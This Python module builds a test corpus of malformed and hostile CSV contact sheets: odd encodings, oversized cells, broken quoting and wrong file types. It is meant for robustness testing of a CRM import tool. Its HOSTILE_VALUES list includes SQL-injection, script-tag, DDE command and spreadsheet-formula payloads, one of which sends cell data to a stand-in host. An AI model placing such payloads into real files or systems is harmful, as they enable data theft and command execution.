"""A generated corpus of hostile contact sheets: encodings, sizes, structure, values, files.

Every case is built from parts (a dialect, a value placed in a column, a broken structure),
not picked one by one, so the corpus grows with the parts. Each case knows what a reader
should make of it: the records it holds (`records`, None when the file cannot be read as a
sheet) and, when it can be written, the record `R1` whose `last_name` a test changes while
every other cell must come back byte for byte.
"""

from __future__ import annotations

import gzip
import io
import itertools
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field

from crm_hygiene.model import CONTACT

# Every bookkeeping column is in the header, so a write appends no column and exactly one
# record's line may change.
HEADER = [*CONTACT.fields, "Notes"]
CHANGED_FIELD = "last_name"


def base_rows() -> list[list[str]]:
    people = [
        ("Ann", "Lee", "ann@acme.com"),
        ("Bob", "Stone", "bob@stone.io"),
        ("Cy", "Ode", "cy@ode.org"),
        ("Di", "Park", "di@park.net"),
    ]
    rows = []
    for i, (first, last, email) in enumerate(people, start=1):
        values = {
            "id": f"R{i}",
            "tenant": "t",
            "version": "1",
            "status": "active",
            "flags": "[]",
            "created_at": f"2024-01-0{i}T00:00:00Z",
            "first_name": first,
            "last_name": last,
            "email": email,
        }
        rows.append([values.get(name, "") for name in HEADER])
    return rows


# Values no sheet should be able to break: far dates, control characters, scripts and marks,
# text that is code elsewhere (SQL, HTML, spreadsheet formulas), numbers where names go.
HOSTILE_VALUES: dict[str, str] = {
    "year 9999": "9999-12-31",
    "year 1": "0001-01-01T00:00:00Z",
    "edge of nanoseconds": "1677-09-21",
    "negative version text": "-1",
    "emoji": "Ann \U0001f600\U0001f469\u200d\U0001f4bb",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "combining marks": "Zoe\u0308 Jose\u0301",
    "zero width": "A\u200bn\u200dn\ufeff",
    "line separator": "a\u2028b",
    "sql": "Robert'); DROP TABLE contacts;--",
    "html": '<script>alert("x")</script>&amp;',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "dde formula": "+cmd|' /C calc'!A0",
    "at formula": "@SUM(1+1)",
    "number as name": "12345",
    "exponent": "1e308",
    "nul": "Ann\x00Lee",
    "bell and escape": "\x07\x1b[31mred",
    "tab": "a\tb",
    "bare cr": "line\rnext",
    "quoted newline": "line one\nline two",
    "quotes": "say \"hi\", then 'bye'",
    "only spaces": "   ",
    "null words": "NULL",
    "nan word": "nan",
    "long cell": "x" * 100_000,
    "latin": "Ren\xe9e M\xfcller",
    "backslashes": "C:\\path\\to\\",
}
VALUE_COLUMNS = ["first_name", "email", "created_at", "Notes"]


@dataclass(frozen=True)
class Dialect:
    delimiter: str = ","
    terminator: str = "\n"
    encoding: str = "utf-8"
    bom: bytes = b""
    quote_all: bool = False


@dataclass
class Case:
    name: str
    category: str
    data: bytes
    # Records a reader should find (None: the file is refused with a one-line error).
    records: int | None
    # The rows as values, for stores that take records instead of files (None: not a table).
    rows: list[list[str]] | None = None
    header: list[str] = field(default_factory=lambda: list(HEADER))
    dialect: Dialect = field(default_factory=Dialect)
    # Where the error must point, when the file is refused.
    error: str = ""

    @property
    def writable(self) -> bool:
        return self.records is not None and self.rows is not None and any(r[0] == "R1" for r in self.rows)


def cell(value: str, dialect: Dialect) -> str:
    special = (dialect.delimiter, '"', "\r", "\n")
    if dialect.quote_all or any(ch in value for ch in special):
        return '"' + value.replace('"', '""') + '"'
    return value


def render(header: list[str], rows: list[list[str]], dialect: Dialect, *, final: bool = True) -> bytes:
    lines = [dialect.delimiter.join(cell(v, dialect) for v in row) for row in [header, *rows]]
    text = dialect.terminator.join(lines) + (dialect.terminator if final else "")
    return dialect.bom + text.encode(dialect.encoding)


def _table(
    name: str, category: str, rows: list[list[str]], dialect: Dialect = Dialect(), **kw: object
) -> Case:
    header = kw.pop("header", list(HEADER))
    return Case(name, category, render(header, rows, dialect, **kw), len(rows), rows, header, dialect)  # type: ignore[arg-type]


def _refused(name: str, category: str, data: bytes, error: str) -> Case:
    return Case(name, category, data, None, None, error=error)


def cases() -> Iterator[Case]:
    yield from _encodings()
    yield from _sizes()
    yield from _structure()
    yield from _values()
    yield from _files()


def _encodings() -> Iterator[Case]:
    encodings = {
        "utf-8": ("utf-8", b""),
        "utf-8 bom": ("utf-8", b"\xef\xbb\xbf"),
        "windows-1252": ("cp1252", b""),
        "utf-16 le bom": ("utf-16-le", b"\xff\xfe"),
        "utf-16 be bom": ("utf-16-be", b"\xfe\xff"),
    }
    for (label, (encoding, bom)), delimiter, terminator, quote_all in itertools.product(
        encodings.items(), [",", ";", "\t"], ["\n", "\r\n"], [False, True]
    ):
        rows = base_rows()
        rows[2][HEADER.index("first_name")] = "Ren\xe9e"
        dialect = Dialect(delimiter, terminator, encoding, bom, quote_all)
        name = f"{label}, {delimiter!r}, {terminator!r}" + (", every cell quoted" if quote_all else "")
        yield _table(name, "encoding", rows, dialect)
    # Bytes that are not UTF-8 in an otherwise UTF-8 file: read as Windows-1252, written back as read.
    data = render(HEADER, base_rows(), Dialect())
    yield Case("invalid utf-8 byte in a cell", "encoding", data.replace(b"Cy", b"C\xff"), 4, None)
    yield Case(
        "utf-8 cut inside a character", "encoding", data + "\u00e9".encode()[:1], None, None, error="line"
    )


def _sizes() -> Iterator[Case]:
    yield _refused("empty file", "size", b"", "the file is empty")
    yield _refused("only line breaks", "size", b"\r\n\r\n\n", "the file is empty")
    yield _table("header only", "size", [])
    yield _table("header only, no final line break", "size", [], final=False)
    yield _table("no final line break", "size", base_rows(), final=False)
    rows = base_rows()
    rows[1][-1] = "y" * 1_000_000
    yield _table("a 1 MB cell", "size", rows)
    wide = [f"c{i}" for i in range(100_000)]
    yield Case(
        "100,000 columns of nothing",
        "size",
        render(HEADER + wide, [r + [""] * len(wide) for r in base_rows()], Dialect()),
        4,
        None,
    )
    template = base_rows()[3]
    many = [[f"M{i}", *template[1:]] for i in range(5_000)]
    yield _table("5,000 records", "size", [*base_rows(), *many])


def _structure() -> Iterator[Case]:
    good = render(HEADER, base_rows(), Dialect()).decode()
    lines = good.split("\n")
    for terminator in ("\n", "\r\n"):
        t = repr(terminator)
        yield _refused(
            f"a record with a cell too many {t}",
            "structure",
            terminator.join([*lines[:2], lines[2] + ",extra", *lines[3:]]).encode(),
            f"line 3: {len(HEADER) + 1} cells where the header has {len(HEADER)}",
        )
        yield _refused(
            f"a record with a cell too few {t}",
            "structure",
            terminator.join([*lines[:2], lines[2].rsplit(",", 1)[0], *lines[3:]]).encode(),
            f"line 3: {len(HEADER) - 1} cells where the header has {len(HEADER)}",
        )
        yield _refused(
            f"an unbalanced quote swallowing the records after it {t}",
            "structure",
            terminator.join([*lines[:2], lines[2].replace(",Bob,", ',"Bob,'), *lines[3:]]).encode(),
            "unbalanced quote",
        )
        yield _refused(
            f"a quote closed mid-cell {t}",
            "structure",
            terminator.join([*lines[:2], lines[2].replace(",Bob,", ',"Bo"b,'), *lines[3:]]).encode(),
            "line 3",
        )
        yield _refused(
            f"no id column {t}",
            "structure",
            terminator.join(line.split(",", 1)[1] if line else line for line in lines).encode(),
            "has no 'id' column",
        )
        rows = base_rows()
        rows[3][0] = "R3"
        yield _table(f"a repeated id {t}", "structure", rows, Dialect(terminator=terminator))
        rows = base_rows()
        rows[3][0] = ""
        yield _table(f"a record without an id {t}", "structure", rows, Dialect(terminator=terminator))
        yield Case(
            f"blank lines between and after records {t}",
            "structure",
            terminator.join([*lines[:2], "", lines[2], "", "", *lines[3:]]).encode(),
            4,
            None,
        )
        header = list(HEADER)
        header[-1] = "email"
        yield _table(
            f"a repeated header {t}", "structure", base_rows(), Dialect(terminator=terminator), header=header
        )
        header = list(HEADER)
        header[-1] = ""
        yield _table(
            f"an empty header cell {t}",
            "structure",
            base_rows(),
            Dialect(terminator=terminator),
            header=header,
        )
        rows = base_rows()
        rows[2][-1] = "a\rb"
        yield _table(f"a bare CR inside a cell {t}", "structure", rows, Dialect(terminator=terminator))
        rows = base_rows()
        rows[1][-1] = "multi\r\nline\nnote"
        yield _table(f"a quoted multi-line cell {t}", "structure", rows, Dialect(terminator=terminator))
        rows = base_rows()
        rows[3][HEADER.index("version")] = "-3"
        yield _table(f"a negative version {t}", "structure", rows, Dialect(terminator=terminator))
        rows = base_rows()
        rows[3][HEADER.index("version")] = "two"
        yield _table(f"a version that is not a number {t}", "structure", rows, Dialect(terminator=terminator))
        rows = base_rows()
        rows[2][HEADER.index("status")] = "deleted"
        yield _table(f"an unknown status {t}", "structure", rows, Dialect(terminator=terminator))
    yield _table("old Mac line endings (CR)", "structure", base_rows(), Dialect(terminator="\r"))
    mixed = good.split("\n")
    yield Case(
        "mixed LF and CRLF",
        "structure",
        ("\n".join(mixed[:3]) + "\r\n" + "\r\n".join(mixed[3:])).encode(),
        4,
        None,
    )


def _values() -> Iterator[Case]:
    for (label, value), column in itertools.product(HOSTILE_VALUES.items(), VALUE_COLUMNS):
        rows = base_rows()
        # R2 carries the value; R1 is the record a test changes.
        rows[1][HEADER.index(column)] = value
        yield _table(f"{label} in {column}", "value", rows)


def _files() -> Iterator[Case]:
    good = render(HEADER, base_rows(), Dialect())
    yield _refused(
        "a PNG image", "file", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", "not a text file"
    )
    yield _refused("gzip bytes named .csv", "file", gzip.compress(good), "not a text file")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("contacts.csv", good)
    yield Case("a zip (an .xlsx) named .csv", "file", buffer.getvalue(), None, None, error="")
    yield Case("a file cut mid-record", "file", good[: len(good) - 9], None, None, error="line 5")
    yield Case(
        "a file cut inside a quoted cell",
        "file",
        good + b'R9,t,1,active,,[],,,"open',
        None,
        None,
        error="unbalanced quote",
    )
    yield _refused(
        "a JSON file named .csv", "file", b'[{"id": "R1", "first_name": "Ann"}]\n', "has no 'id' column"
    )
    yield Case("random bytes", "file", bytes(range(256)) * 4, None, None, error="")
